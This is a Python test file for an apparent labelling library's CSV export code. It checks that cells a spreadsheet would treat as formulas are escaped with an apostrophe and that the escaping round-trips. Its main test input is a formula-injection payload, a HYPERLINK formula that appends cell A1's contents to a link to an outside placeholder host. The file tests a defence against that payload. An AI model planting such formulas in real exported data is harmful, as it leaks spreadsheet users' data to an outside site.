import csv
import json

import pyarrow as pa
import pytest
from hypothesis import given
from hypothesis import strategies as st
from support.box_samples import CLASS_IDS, Scenes
from support.export_samples import document, table

from autolabel_core.exports import write_export
from autolabel_core.exports.box_formats import write_boxes
from autolabel_core.foundation.spreadsheet_cells import escaped, escaped_table, unescaped
from autolabel_core.tables.boxes.splits import Splits
from autolabel_core.tables.boxes.training_set import TrainingSet

FORMULA = '=HYPERLINK("http://example.org?"&A1)'


@pytest.mark.parametrize(
    "text", [FORMULA, "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "'=1", "--1"]
)
def test_what_a_spreadsheet_would_run_gets_an_apostrophe(text):
    assert escaped(text) == f"'{text}" and unescaped(escaped(text)) == text


@pytest.mark.parametrize("text", ["", "cat", "-1", "+1.5e3", "-.5", "a=b", "it's", "'quoted'", "'"])
def test_what_is_harmless_stays_as_it_is(text):
    assert escaped(text) == text == unescaped(text)


@given(st.text(st.sampled_from("'=+-@\t\r1a."), max_size=6))
def test_every_text_comes_back(text):
    assert unescaped(escaped(text)) == text


def test_columns_of_numbers_and_nulls_are_left_alone():
    written = escaped_table(pa.table({"=a": ["=1", None], "n": [-1.5, None]}))
    assert written.to_pydict() == {"'=a": ["'=1", None], "n": [-1.5, None]}


@pytest.mark.parametrize("fmt", ["csv", "image_folder"])
def test_exports_of_labels_are_safe_unless_plain_is_asked_for(fmt, tmp_path):
    rows = table([document(1, FORMULA, "human")])
    for plain, label in ((False, f"'{FORMULA}"), (True, FORMULA)):
        out = tmp_path / str(plain)
        write_export(fmt, rows, out, lambda key: b"x", plain=plain)
        with (out / "documents.csv").open(encoding="utf-8", newline="") as lines:
            assert next(csv.DictReader(lines))["label"] == label


def test_boxes_are_safe_in_csv_and_numbers_in_lines(tmp_path):
    scenes = Scenes()
    truths = {"train": [scenes.add("=1+1.png", ("car", (1.0, 2.0, 30.5, 40.0)))]}
    training = TrainingSet(Splits(truths, ()), CLASS_IDS, scenes.open)
    for plain, key in ((False, "'=1+1.png"), (True, "=1+1.png")):
        write_boxes("csv", training, tmp_path / str(plain), plain)
        with (tmp_path / str(plain) / "boxes.csv").open(encoding="utf-8", newline="") as lines:
            assert next(csv.DictReader(lines))["key"] == key
    write_boxes("jsonl", training, tmp_path / "lines")
    first, second = (tmp_path / "lines/boxes.jsonl").read_text().splitlines()
    assert json.loads(first)["bbox"] == [1.0, 2.0, 30.5, 40.0]
    assert json.loads(second)["bbox"] is None
